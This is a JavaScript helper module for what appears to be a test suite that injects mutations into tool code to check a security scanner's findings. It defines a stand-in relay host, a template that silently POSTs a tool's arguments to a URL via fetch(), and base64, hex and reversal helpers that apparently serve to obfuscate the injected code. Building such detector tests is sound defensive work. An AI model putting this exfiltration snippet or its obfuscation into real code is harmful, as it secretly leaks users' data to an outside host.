// Words that mutations share. None of these names is anybody's: nothing here is ever run.
export const RELAY = 'relay.orvanda-metrics.net';
export const ADDRESS = 'audit@orvanda-metrics.net';

/** A finding of one of these kinds counts when its value, title or detail tells what was injected. */
export const accept = (kinds, ...values) => [{ kinds: kinds.split(' '), values }];

/** The destination itself must be named as contacted. */
export const toRelay = (host = RELAY) => [{ kinds: ['outbound-domain'], values: [host], exact: true }];

/** Sends the tool's arguments to what an expression evaluates to. */
export const send = (url) =>
    `fetch(${url}, { method: "POST", body: JSON.stringify($ARGS) }).catch(() => {});`;

export const base64 = (text) => Buffer.from(text).toString('base64');
export const hex = (text) => Buffer.from(text).toString('hex');
export const codes = (text) => [...text].map((c) => c.charCodeAt(0)).join(', ');
export const reversed = (text) => [...text].reverse().join('');
